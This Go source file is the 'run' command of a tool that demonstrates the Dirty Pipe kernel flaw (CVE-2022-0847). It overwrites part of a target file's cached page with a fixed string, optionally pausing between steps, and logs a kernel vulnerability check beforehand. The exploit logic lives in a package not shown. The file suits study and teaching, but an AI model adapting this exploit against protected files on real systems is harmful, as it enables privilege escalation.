// Copyright 2026 The dirtypipe Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package cmd

import (
	"context"
	"flag"
	"io"
	"os"

	"github.com/google/subcommands"

	"github.com/dirtypipe/dirtypipe/dirtypipe/config"
	"github.com/dirtypipe/dirtypipe/pkg/exploit"
	"github.com/dirtypipe/dirtypipe/pkg/kernelcheck"
	"github.com/dirtypipe/dirtypipe/pkg/linuxhost"
	"github.com/dirtypipe/dirtypipe/pkg/log"
)

// Run implements subcommands.Command for the "run" command.
type Run struct {
	// Host issues the system calls. Defaults to the running kernel.
	Host exploit.Host

	// Stdin and Stdout default to the process's.
	Stdin  io.Reader
	Stdout io.Writer
}

// Name implements subcommands.Command.Name.
func (*Run) Name() string {
	return "run"
}

// Synopsis implements subcommands.Command.Synopsis.
func (*Run) Synopsis() string {
	return "run the CVE-2022-0847 demonstration on ./target_file"
}

// Usage implements subcommands.Command.Usage.
func (*Run) Usage() string {
	return `run - overwrite the page cache of ./target_file through a pipe.

./target_file must exist and be readable. On affected kernels, bytes 5 to 17
of its cached contents become "pwned by user" until the page is evicted; the
file on disk is not modified. The mapped page is printed before and after the
write.

With --interactive, the command stops before each step and waits for a line on
stdin, so the kernel's pipe state can be inspected in between.

Exit status: 0 on success, 1 on an I/O failure, 2 if the target cannot be
mapped at its fixed address, 7 if the pipe cannot be shrunk to one page.
`
}

// SetFlags implements subcommands.Command.SetFlags.
func (*Run) SetFlags(*flag.FlagSet) {}

// Execute implements subcommands.Command.Execute.
func (r *Run) Execute(ctx context.Context, f *flag.FlagSet, args ...any) subcommands.ExitStatus {
	if f.NArg() != 0 {
		f.Usage()
		return subcommands.ExitUsageError
	}
	conf := args[0].(*config.Config)

	host := r.Host
	if host == nil {
		host = linuxhost.Host{}
		preflight()
	}
	var (
		stdin  io.Reader = os.Stdin
		stdout io.Writer = os.Stdout
	)
	if r.Stdin != nil {
		stdin = r.Stdin
	}
	if r.Stdout != nil {
		stdout = r.Stdout
	}

	var checkpoint exploit.Checkpoint = exploit.NopCheckpoint
	if conf.Pause() {
		checkpoint = exploit.ConsoleCheckpoint(stdin, stdout)
	}

	d := exploit.New(host, exploit.Options{Out: stdout, Checkpoint: checkpoint})
	defer func() {
		if err := d.Close(); err != nil {
			log.Warningf("Releasing resources: %v", err)
		}
	}()
	if err := d.Run(ctx); err != nil {
		return Errorf(subcommands.ExitStatus(exploit.ExitCode(err)), "dirtypipe: %v", err)
	}
	return subcommands.ExitSuccess
}

// preflight logs what the running kernel is expected to do. It never stops
// the run: only the run itself is conclusive.
func preflight() {
	report, err := kernelcheck.Check()
	if err != nil {
		log.Warningf("Kernel check failed: %v", err)
		return
	}
	log.Infof("Kernel %s (%s)", report.Release, report.Status)
	if report.Status != kernelcheck.Vulnerable {
		log.Warningf("Kernel %s is %s, the write is expected to fail", report.Version, report.Status)
	}
	if report.DACOverride {
		log.Warningf("Running with CAP_DAC_OVERRIDE: the target is writable anyway")
	}
}
